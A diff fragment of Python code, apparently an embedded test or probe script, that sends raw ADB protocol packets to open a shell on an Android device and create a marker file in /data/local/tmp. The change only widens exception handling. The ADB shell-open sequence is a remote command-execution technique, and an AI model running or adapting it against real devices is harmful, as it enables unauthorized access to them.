@@ -127,7 +127,7 @@ for end in (lambda plug: plug.recv(4), lambda plug: plug.shutdown(socket.SHUT_WR
             plug.sendall(packet(wire.CNXN, wire.VERSION_CHECKSUM, b"host::")
                          + packet(wire.OPEN, 7, b"shell:touch /data/local/tmp/taken\\0"))
             print("answer", end(plug))
-        except ConnectionError:
+        except OSError:
             print("cut")
 """
 
